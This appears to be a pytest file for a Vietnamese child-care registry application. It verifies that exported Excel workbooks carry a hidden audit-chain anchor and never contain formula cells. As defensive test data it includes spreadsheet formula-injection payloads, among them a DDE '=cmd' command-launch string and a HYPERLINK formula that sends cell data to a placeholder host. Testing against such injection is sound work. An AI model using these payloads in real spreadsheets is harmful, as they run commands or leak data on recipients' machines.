"""Every workbook that leaves the office carries the audit chain's head in a hidden sheet (issue 11.3), and no
cell of any writer is a formula (issue 11.1): the period report, the register export, the province's merge (with
its sheet of communes that sent nothing, from a hostile list of communes)."""
from __future__ import annotations

from openpyxl import Workbook, load_workbook

from desktop.actions.register import export_children_file
from desktop.actions.reports import export_report, merge_reports
from models import sheet_text
from models.security import anchors, audit
from models.services.intake import create_intake, parse_intake
from tests.attacks.payloads import FORMULAS, formula_cells_in_xml, texts_of
from tests.conftest import intake_raw


def _chain_says(workspace, anchor: dict) -> bool:
    with workspace.db.session() as s:
        return audit.verify_anchor(s, anchor, audit.verify_chain(s)).ok


def test_the_report_and_the_register_export_carry_the_chain_head(office_db, workspace, tmp_path):
    create_intake(office_db, parse_intake(intake_raw())[0], workspace.actor)
    office_id = str(workspace.vault.office_id)
    for out in (export_report(workspace, "2026", tmp_path / "bao-cao.xlsx"),
                export_children_file(workspace, tmp_path / "so-tre-em.xlsx").path):
        wb = load_workbook(out)
        assert wb[anchors.SHEET].sheet_state == "hidden", out.name
        anchor = anchors.read(out)  # what `bvte verify --anchor FILE` reads
        assert anchor["office_id"] == office_id and anchor["audit_id"] > 0, out.name
        assert _chain_says(workspace, anchor), out.name
        assert formula_cells_in_xml(out) == [], out.name
    # the register export's hidden sheet is not offered to the import (visible sheets only)
    from models.xlsx_guard import visible_sheets

    wb = load_workbook(tmp_path / "so-tre-em.xlsx", read_only=True)
    assert anchors.SHEET not in [ws.title for ws in visible_sheets(wb)]


def test_the_merge_keeps_each_communes_chain_head_and_writes_no_formula(office_db, workspace, tmp_path):
    create_intake(office_db, parse_intake(intake_raw())[0], workspace.actor)
    good = export_report(workspace, "2026", tmp_path / "xa.xlsx")
    forged = tmp_path / "gia-mao.xlsx"
    wb = load_workbook(good)
    for row in wb["_bvte"].iter_rows(min_row=2):
        if row[0].value == "commune_name":
            sheet_text.put(row[1], "=cmd|' /C calc'!A0")  # a commune the list does not have
    for row in wb[anchors.SHEET].iter_rows(min_row=2):
        if row[0].value == "office_id":
            sheet_text.put(row[1], '=HYPERLINK("http://x/"&B3)')
    wb.save(forged)
    listing = tmp_path / "danh-sach-xa.xlsx"
    lw = Workbook()
    lw.active.append(["Tên xã"])
    for payload in ["Cẩm Hưng", *FORMULAS, " =1", "Xã @A1"]:
        cell = lw.active.cell(lw.active.max_row + 1, 1)
        sheet_text.put(cell, payload)
    lw.save(listing)
    report = merge_reports([good, forged], tmp_path / "tong-hop.xlsx", expected=listing)
    out = report.output
    assert formula_cells_in_xml(out) == []
    texts = texts_of(out)
    missing = texts["Xã chưa gửi báo cáo"]
    shown = {v: quoted for _r, v, quoted in missing}
    assert shown.get("#N/A") is True and shown.get("Xã @A1") is False  # a name; kept as typed, as text
    assert shown.get("=cmd|' /C calc'!A0") is True  # the forged commune, not on the list: shown, as text
    assert any(v.startswith("Dòng ") and "HYPERLINK" in v for v in shown)  # refused rows listed, not fatal
    wb = load_workbook(out)
    hidden = wb[merge_anchor_sheet()]
    assert hidden.sheet_state == "hidden"
    rows = {r[0]: r for r in hidden.iter_rows(min_row=2, values_only=True)}
    own = anchors.read(good)
    assert rows["Cẩm Hưng"][2:] == tuple(str(own[k]) for k in anchors.FIELDS)
    # the forged anchor's text is kept as text, with the quote prefix
    assert any(v == '=HYPERLINK("http://x/"&B3)' and q for _r, v, q in texts[merge_anchor_sheet()])


def merge_anchor_sheet() -> str:
    from models.reports.merge import ANCHORS_SHEET

    return ANCHORS_SHEET


def test_the_quarterly_list_of_carers_carries_the_chain_head_and_no_formula(office_db, workspace, tmp_path):
    """Mẫu 09's workbook, sent up every quarter, leaves the office too: the anchor in a hidden sheet, and a carer's
    name that looks like a formula stays a text."""
    from datetime import date

    from desktop.actions import printing
    from models.care_entities import Carer, CarerVerification
    from models.clock import now

    with office_db.transaction() as s:
        carer = Carer(registration="don_dang_ky", kind="ca_nhan", full_name=FORMULAS[0], name_key="x",
                      date_of_birth=date(1980, 1, 1), is_foreigner=False, applied_on=date(2026, 10, 1),
                      health_certificate_on=date(2026, 9, 20))
        carer.verifications.append(CarerVerification(verified_on=date(2026, 10, 5), conclusion="du_dieu_kien",
                                                     answers={}, confirmed_by="Chủ tịch", confirmed_at=now()))
        s.add(carer)
    _pdf, xlsx = printing.send_carer_list(workspace, tmp_path / "mau09.pdf", tmp_path / "mau09.xlsx",
                                          year=2026, quarter=4)
    wb = load_workbook(xlsx)
    assert wb[anchors.SHEET].sheet_state == "hidden"
    assert _chain_says(workspace, anchors.read(xlsx))
    assert formula_cells_in_xml(xlsx) == []
    cells = [cell for sheet in texts_of(xlsx).values() for cell in sheet]
    assert any(value == FORMULAS[0] and quoted for _coord, value, quoted in cells)
